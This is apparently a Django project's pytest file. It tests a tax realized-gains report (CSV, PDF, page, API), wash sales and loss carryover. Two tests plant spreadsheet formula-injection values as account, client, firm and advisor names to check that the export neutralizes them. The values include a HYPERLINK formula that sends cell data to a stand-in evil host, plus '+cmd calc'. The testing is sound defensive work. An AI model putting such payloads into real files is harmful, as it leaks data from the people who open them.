"""The realized-gains report (page, CSV, PDF, API), the loss limit and carryover chained over
years, and the lots list API's query count. Numbers worked by hand in each test's docstring."""

from __future__ import annotations

import csv
import io
import subprocess
from datetime import date
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from rest_framework.test import APIClient

from accounts.models import Account
from portfolios.lots.selectors import realized_gains_report
from tests.lots.test_trades import opening, trade


@pytest.fixture
def year_2026(cast, securities):
    """The wash sale of test_trades (a 1,000.00 loss, 700.00 of it disallowed: code W), then:

    - 2026-04-01: 10 AAPL bought 2026-01-05 for 1,800.00 sold for 2,100.00: Part I, +300.00;
    - 2026-06-01: the 30 XYZ replacement shares (basis 1,590.00, held since 2025-02-02 after
      tacking, so long-term) sold for 1,500.00: Part II, −90.00, no wash (nothing bought
      within 30 days).

    Part I: proceeds 2,100.00, basis 1,800.00, gain 300.00.
    Part II: proceeds 5,500.00, basis 6,590.00, adjustment 700.00, loss (390.00).
    Net (90.00): all deductible (limit 3,000), nothing carried forward.
    """
    a = cast.a
    opening(
        cast,
        f"{a.account.account_number},XYZ,100,2025-01-10,5000.00,X1",
        f"{a.account.account_number},AAPL,10,2026-01-05,1800.00,A1",
    )
    trade(cast, a.account, "SELL", "XYZ", "100", date(2026, 3, 2), amount="4000")
    trade(cast, a.ira, "BUY", "XYZ", "40", date(2026, 3, 20), price="42")
    trade(cast, a.account, "BUY", "XYZ", "30", date(2026, 3, 25), price="43")
    trade(cast, a.account, "SELL", "AAPL", "10", date(2026, 4, 1), amount="2100")
    trade(cast, a.account, "SELL", "XYZ", "30", date(2026, 6, 1), amount="1500")
    trade(cast, a.ira, "SELL", "XYZ", "10", date(2026, 7, 1), amount="300")  # IRA: not reported
    return cast


EXPECTED_ROWS = [
    "Part,Box,(a) Description,(b) Date acquired,(c) Date sold,(d) Proceeds (USD),"
    "(e) Cost basis (USD),(f) Code,(g) Adjustment (USD),(h) Gain or loss (USD),Account",
    "I,A,10 sh AAPL,2026-01-05,2026-04-01,2100.00,1800.00,,0.00,300.00,alpha brokerage",
    "II,D,100 sh XYZ,2025-01-10,2026-03-02,4000.00,5000.00,W,700.00,-300.00,alpha brokerage",
    "II,D,30 sh XYZ,2025-02-02,2026-06-01,1500.00,1590.00,,0.00,-90.00,alpha brokerage",
    # Part I: the one row. Part II: 4,000 + 1,500; 5,000 + 1,590; 700 + 0; −300 − 90.
    "Total Part I (Schedule D line 1b),,,,,2100.00,1800.00,,0.00,300.00,",
    "Total Part II (Schedule D line 8b),,,,,5500.00,6590.00,,700.00,-390.00,",
    # Both: 2,100 + 5,500; 1,800 + 6,590; 0 + 700; 300 − 390 (= 7,600 − 8,390 + 700).
    "Total,,,,,7600.00,8390.00,,700.00,-90.00,",
]


def expected_csv(cast) -> list[str]:
    """The header facts as leading rows, a blank line, then the rows and the totals."""
    return [
        "Realized gains and losses (Form 8949 layout)",
        "Firm,Alpha Advisors",
        f"Advisor,{cast.a.advisor.display_name}",
        "Household,alpha Household One",
        "Tax year,2026",
        "Filing status,Single",
        "Currency,USD",
        "Sign convention,losses are negative amounts",
        "",
        *EXPECTED_ROWS,
    ]


def test_report_rows_and_schedule_d_totals(year_2026):
    report = realized_gains_report(client=year_2026.a.client, year=2026)
    assert [r.row.description for r in report.part_one] == ["10 sh AAPL"]
    assert [r.row.description for r in report.part_two] == ["100 sh XYZ", "30 sh XYZ"]
    st, lt = report.totals.short_term, report.totals.long_term
    assert (st.proceeds, st.cost_basis, st.adjustment, st.gain_loss) == (
        Decimal("2100.00"),
        Decimal("1800.00"),
        Decimal("0.00"),
        Decimal("300.00"),
    )
    assert (lt.proceeds, lt.cost_basis, lt.adjustment, lt.gain_loss) == (
        Decimal("5500.00"),
        Decimal("6590.00"),
        Decimal("700.00"),
        Decimal("-390.00"),
    )
    carry = report.carryover
    assert (carry.net_after_carryover, carry.deduction) == (Decimal("-90.00"), Decimal("90.00"))
    assert (carry.short_term_carryover_out, carry.long_term_carryover_out) == (0, 0)
    assert report.has_wash_sales


def test_report_csv_has_the_cli_columns_plus_account(client, year_2026):
    client.force_login(year_2026.a.advisor)
    url = reverse("realized-gains-csv", kwargs={"public_id": year_2026.a.client.public_id})
    response = client.get(url, {"year": 2026})
    assert response["Content-Type"].startswith("text/csv")
    assert (
        'filename="realized-gains-2026-alpha-household-one.csv"' in response["Content-Disposition"]
    )
    assert response.content.decode().splitlines() == expected_csv(year_2026)


def test_report_page_for_the_advisor_and_the_clients_own_login(client, year_2026):
    url = reverse("realized-gains", kwargs={"public_id": year_2026.a.client.public_id})
    for user in (year_2026.a.advisor, year_2026.a.client_user):
        client.force_login(user)
        body = client.get(url, {"year": 2026}).content.decode()
        assert "Part I: Short-term" in body and "Part II: Long-term" in body
        assert body.count('title="Wash sale: loss disallowed">W<') == 1
        assert "$700.00" in body and "−$390.00" in body and "$300.00" in body
        assert "−$90.00" in body  # line 16
    empty = client.get(url, {"year": 2024}).content.decode()
    assert "No short-term sales in 2024." in empty
    assert client.get(url, {"year": "9999"}).status_code == 404
    assert client.get(url, {"year": "abc"}).status_code == 404


def test_report_pdf_shows_the_figures(client, year_2026, tmp_path):
    client.force_login(year_2026.a.client_user)
    url = reverse("realized-gains-pdf", kwargs={"public_id": year_2026.a.client.public_id})
    response = client.get(url, {"year": 2026})
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF-")
    pdf = tmp_path / "report.pdf"
    pdf.write_bytes(response.content)
    text = subprocess.run(
        ["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True, check=True
    ).stdout
    assert "Realized gains and losses, tax year 2026" in text
    assert "100 sh XYZ" in text and "10 sh AAPL" in text and "30 sh XYZ" in text
    # Currency formatting, losses with a minus sign (U+2212, as on the page).
    for figure in (
        "$4,000.00",
        "$5,000.00",
        "$700.00",
        "−$300.00",
        "$5,500.00",
        "$6,590.00",
        "−$390.00",
    ):
        assert figure in text, figure
    assert "4000.00" not in text  # no bare amounts left
    assert " W " in text


def test_realized_gains_api(year_2026):
    api = APIClient()
    api.force_authenticate(year_2026.a.client_user)
    url = f"/api/realized-gains/{year_2026.a.client.public_id}/"
    data = api.get(url, {"year": 2026}).json()
    assert [r["description"] for r in data["part_two"]] == ["100 sh XYZ", "30 sh XYZ"]
    assert data["part_two"][0]["code"] == "W" and data["part_two"][0]["adjustment"] == "700.00"
    assert data["schedule_d"]["long_term"]["gain_loss"] == "-390.00"
    assert data["capital_loss"]["deduction"] == "90.00"
    assert api.get(url, {"year": "x"}).status_code == 400
    api.force_authenticate(year_2026.b.advisor)
    assert api.get(url, {"year": 2026}).status_code == 404


@pytest.mark.parametrize(
    ("filing_status", "deduction", "carry_in", "carry_out"),
    [
        # single: 2025 loss 10,000 → deduct 3,000, carry 7,000 (ST); 2026: 2,000 − 7,000 =
        # −5,000 → deduct 3,000, carry 2,000.
        ("single", "3000", "7000", "2000"),
        # married filing separately: deduct 1,500, carry 8,500; 2026: 2,000 − 8,500 = −6,500 →
        # deduct 1,500, carry 5,000.
        ("married_separate", "1500", "8500", "5000"),
    ],
)
def test_loss_limit_and_carryover_chain_over_years(
    cast, securities, filing_status, deduction, carry_in, carry_out
):
    a = cast.a
    a.client.filing_status = filing_status
    a.client.save()
    opening(
        cast,
        f"{a.account.account_number},MSFT,100,2025-01-02,30000,M1",
        f"{a.account.account_number},AAPL,10,2026-01-05,1000,A1",
    )
    trade(cast, a.account, "SELL", "MSFT", "100", date(2025, 3, 3), amount="20000")
    trade(cast, a.account, "SELL", "AAPL", "10", date(2026, 5, 1), amount="3000")
    report = realized_gains_report(client=a.client, year=2026)
    carry = report.carryover
    assert report.totals.short_term.gain_loss == Decimal("2000.00")
    assert carry.short_term_carryover_in == Decimal(carry_in)
    assert carry.deduction == Decimal(deduction)
    assert carry.short_term_carryover_out == Decimal(carry_out)
    assert report.loss_limit == Decimal(deduction)
    assert [h.year for h in report.history] == [2025]


def test_lots_list_api_query_count_does_not_grow_with_lots(cast, securities):
    a = cast.a
    api = APIClient()
    api.force_authenticate(a.advisor)

    def count() -> int:
        with CaptureQueriesContext(connection) as context:
            response = api.get("/api/tax-lots/")
        assert response.status_code == 200
        return len(context.captured_queries)

    opening(cast, f"{a.account.account_number},AAPL,1,2020-01-02,100,L1")
    small = count()
    rows = [f"{a.ira.account_number},MSFT,{n},2020-01-{n + 2:02d},{n}00,M{n}" for n in range(1, 25)]
    opening(cast, *rows)
    large = count()
    assert small == large <= 4, (small, large)
    body = api.get("/api/tax-lots/", {"client": str(a.client.public_id), "ticker": "msft"}).json()
    assert body["count"] == 24
    assert body["results"][0]["client"] == str(a.client.public_id)


def test_form8949_command_line_on_a_small_file(tmp_path):
    """`manage.py form8949 FILE` prints the rows worked by hand, and refuses bad input.

    BUY 10 @ 1,000 on 2025-01-02, SELL 10 for 800 on 2025-06-02 (loss 200), BUY 5 for 450
    on 2025-06-20: half the loss (100) is disallowed and goes into the new lot (550).
    """
    good = tmp_path / "tx.csv"
    good.write_text(
        "date,account,account_type,action,ticker,shares,amount,lot\n"
        "2025-01-02,joint,taxable,BUY,ABC,10,1000,\n"
        "2025-06-02,joint,taxable,SELL,ABC,10,800,\n"
        "2025-06-20,joint,taxable,BUY,ABC,5,450,\n"
    )
    run = subprocess.run(
        [".venv/bin/python", "manage.py", "form8949", str(good)],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert run.returncode == 0, run.stderr
    assert list(csv.reader(io.StringIO(run.stdout))) == [
        [
            "part",
            "box",
            "description",
            "date_acquired",
            "date_sold",
            "proceeds",
            "cost_basis",
            "code",
            "adjustment",
            "gain_loss",
        ],
        [
            "I",
            "A",
            "10 sh ABC",
            "2025-01-02",
            "2025-06-02",
            "800.00",
            "1000.00",
            "W",
            "100.00",
            "-100.00",
        ],
    ]
    lots = subprocess.run(
        [".venv/bin/python", "manage.py", "form8949", str(good), "--open-lots"],
        capture_output=True,
        text=True,
        timeout=60,
    )
    # Held 151 days (2025-01-02 .. 2025-06-02): 2025-06-20 − 151 days = 2025-01-20.
    assert lots.stdout.splitlines()[1:] == ["joint,ABC,5,2025-01-20,550.00"]
    bad = tmp_path / "bad.csv"
    bad.write_text(
        "date,account,account_type,action,ticker,shares,amount,lot\n"
        "2025-01-02,joint,taxable,BUY,ABC,10,1000,\n"
        "2025-06-02,joint,taxable,SELL,ABC,12,800,\n"
    )
    run = subprocess.run(
        [".venv/bin/python", "manage.py", "form8949", str(bad)],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert run.returncode != 0
    assert run.stdout == ""
    assert "row 2" in run.stderr and "holds only 10" in run.stderr


HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_the_realized_gains_csv_neutralizes_formulas_and_keeps_negative_amounts(client, year_2026):
    Account.objects.filter(pk=year_2026.a.account.pk).update(name=HOSTILE_NAME)
    client.force_login(year_2026.a.advisor)
    url = reverse("realized-gains-csv", kwargs={"public_id": year_2026.a.client.public_id})
    text = client.get(url, {"year": 2026}).content.decode()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + HOSTILE_NAME in cells
    assert "-300.00" in cells and "-90.00" in cells  # losses stay numeric
    for cell in cells:
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            float(cell)  # only a plain number may start so


def test_report_pdf_names_the_firm_advisor_and_household(client, year_2026, tmp_path):
    a = year_2026.a
    client.force_login(a.advisor)
    url = reverse("realized-gains-pdf", kwargs={"public_id": a.client.public_id})
    pdf = tmp_path / "r.pdf"
    pdf.write_bytes(client.get(url, {"year": 2026}).content)
    text = subprocess.run(
        ["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True, check=True
    ).stdout
    lines = [" ".join(line.split()) for line in text.splitlines()]
    assert f"Household {a.client.name}" in lines
    assert f"Firm {a.firm.name}" in lines and f"Advisor {a.advisor.display_name}" in lines
    assert "Tax year 2026" in lines
    assert "Amounts in US dollars (USD); losses are shown with a minus sign." in text


def _cells_of(body: str, pattern: str) -> list[tuple[str, str, str]]:
    """(column, data value, shown text) of the cells matching `pattern` (a data- attribute)."""
    import re

    return re.findall(
        rf'<t[dh] class="num[^"]*" data-column="(\w+)" {pattern}="([-\d.]+)">([^<]*)</t[dh]>',
        body,
    )


def _shown_amount(text: str) -> Decimal:
    """'−$1,234.56' → Decimal('-1234.56'); a blank (a zero adjustment) is 0."""
    text = text.strip()
    if not text:
        return Decimal("0")
    sign = -1 if text.startswith("−") else 1
    return sign * Decimal(text.lstrip("−").lstrip("$").replace(",", ""))


def test_report_page_totals_are_the_sums_of_the_rows_shown(client, year_2026):
    """Worked by hand (see year_2026): Part I 2,100.00 / 1,800.00 / 0.00 / 300.00; Part II
    5,500.00 / 6,590.00 / 700.00 / −390.00; both 7,600.00 / 8,390.00 / 700.00 / −90.00. Each
    cell's shown text is its data value, and the page's totals are sums of the shown rows."""
    import re

    client.force_login(year_2026.a.advisor)
    url = reverse("realized-gains", kwargs={"public_id": year_2026.a.client.public_id})
    body = client.get(url, {"year": 2026}).content.decode()
    tables = dict(re.findall(r'<table class="f8949" data-part="(I+)">(.*?)</table>', body, re.S))
    expected = {
        "I": {
            "proceeds": "2100.00",
            "cost_basis": "1800.00",
            "adjustment": "0.00",
            "gain_loss": "300.00",
        },
        "II": {
            "proceeds": "5500.00",
            "cost_basis": "6590.00",
            "adjustment": "700.00",
            "gain_loss": "-390.00",
        },
    }
    for part, table in tables.items():
        rows = _cells_of(table, "data-value")
        totals = _cells_of(table, "data-total")
        assert len(totals) == 4 and len(rows) == 4 * {"I": 1, "II": 2}[part]
        for _column, value, shown in rows + totals:
            assert _shown_amount(shown) == Decimal(value)
        for column, value, _shown in totals:
            assert Decimal(value) == Decimal(expected[part][column])
            assert Decimal(value) == sum(Decimal(v) for c, v, _ in rows if c == column)
    assert sorted(tables) == ["I", "II"]
    overall = re.search(r"<table class=\"f8949\" data-overall>(.*?)</table>", body, re.S).group(1)
    both = {c: Decimal(v) for c, v, _ in _cells_of(overall, "data-total")}
    assert both == {
        "proceeds": Decimal("7600.00"),
        "cost_basis": Decimal("8390.00"),
        "adjustment": Decimal("700.00"),
        "gain_loss": Decimal("-90.00"),
    }
    assert "Alpha Advisors" in body and year_2026.a.advisor.display_name in body


def test_report_csv_totals_rows_are_the_sums_of_its_rows(client, year_2026):
    client.force_login(year_2026.a.advisor)
    url = reverse("realized-gains-csv", kwargs={"public_id": year_2026.a.client.public_id})
    rows = list(csv.reader(io.StringIO(client.get(url, {"year": 2026}).content.decode())))
    header_at = next(i for i, row in enumerate(rows) if row[:2] == ["Part", "Box"])
    body = rows[header_at + 1 :]
    data, totals = body[:3], {row[0]: row for row in body[3:]}
    amounts = (5, 6, 8, 9)  # proceeds, cost basis, adjustment, gain or loss
    part_one = [r for r in data if r[0] == "I"]
    part_two = [r for r in data if r[0] == "II"]
    for label, members in (
        ("Total Part I (Schedule D line 1b)", part_one),
        ("Total Part II (Schedule D line 8b)", part_two),
        ("Total", data),
    ):
        for k in amounts:
            assert Decimal(totals[label][k]) == sum(Decimal(r[k]) for r in members), (label, k)
    assert [totals["Total"][k] for k in amounts] == ["7600.00", "8390.00", "700.00", "-90.00"]


def test_report_pdf_has_the_totals_of_both_parts(client, year_2026, tmp_path):
    client.force_login(year_2026.a.advisor)
    url = reverse("realized-gains-pdf", kwargs={"public_id": year_2026.a.client.public_id})
    pdf = tmp_path / "r.pdf"
    pdf.write_bytes(client.get(url, {"year": 2026}).content)
    text = subprocess.run(
        ["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True, check=True
    ).stdout
    both = next(line for line in text.splitlines() if "Total of Part I and Part II" in line)
    assert both.split()[-4:] == ["$7,600.00", "$8,390.00", "$700.00", "−$90.00"]


def test_schedule_d_lines_add_up_with_a_carryover_in(client, cast, securities):
    """2025: a 10,000.00 short-term loss (MSFT 30,000 → 20,000): 3,000 deducted, 7,000 carried.
    2026: a 2,000.00 short-term gain (AAPL 1,000 → 3,000). Line 7 = 2,000 − 7,000 = −5,000;
    line 15 = 0; line 16 = −5,000; 3,000 deducted; 2,000 carried forward short-term."""
    import re

    a = cast.a
    opening(
        cast,
        f"{a.account.account_number},MSFT,100,2025-01-02,30000,M1",
        f"{a.account.account_number},AAPL,10,2026-01-05,1000,A1",
    )
    trade(cast, a.account, "SELL", "MSFT", "100", date(2025, 3, 3), amount="20000")
    trade(cast, a.account, "SELL", "AAPL", "10", date(2026, 5, 1), amount="3000")
    client.force_login(a.advisor)
    url = reverse("realized-gains", kwargs={"public_id": a.client.public_id})
    body = client.get(url, {"year": 2026}).content.decode()
    lines = {
        key: (Decimal(value), _shown_amount(shown))
        for key, value, shown in re.findall(
            r'data-line="([\w-]+)" data-value="([-\d.]+)">([^<]*)<', body
        )
    }
    assert {key: value for key, (value, _) in lines.items()} == {
        "st": Decimal("2000.00"),
        "carry-in-st": Decimal("-7000.00"),
        "line7": Decimal("-5000.00"),
        "lt": Decimal("0"),
        "carry-in-lt": Decimal("0"),
        "line15": Decimal("0"),
        "net": Decimal("-5000.00"),
        "deduction": Decimal("-3000"),
        "carry-st": Decimal("2000.00"),
        "carry-lt": Decimal("0"),
    }
    assert all(value == shown for value, shown in lines.values())


def test_the_realized_gains_csv_header_rows_neutralize_hostile_names(client, year_2026):
    """The new leading rows carry the household, firm and advisor names: text cells too."""
    from accounts.models import Client, Firm, User

    a = year_2026.a
    Client.objects.filter(pk=a.client.pk).update(name=HOSTILE_NAME)
    Firm.objects.filter(pk=a.firm.pk).update(name="@SUM(1+9)")
    User.objects.filter(pk=a.advisor.pk).update(first_name="+cmd", last_name="calc")
    client.force_login(a.advisor)
    url = reverse("realized-gains-csv", kwargs={"public_id": a.client.public_id})
    rows = list(csv.reader(io.StringIO(client.get(url, {"year": 2026}).content.decode())))
    facts = {row[0]: row[1] for row in rows[1:8]}
    assert facts["Household"] == "'" + HOSTILE_NAME
    assert facts["Firm"] == "'@SUM(1+9)"
    assert facts["Advisor"] == "'+cmd calc"
    for cell in (cell for row in rows for cell in row):
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            float(cell)  # only a plain number may start so
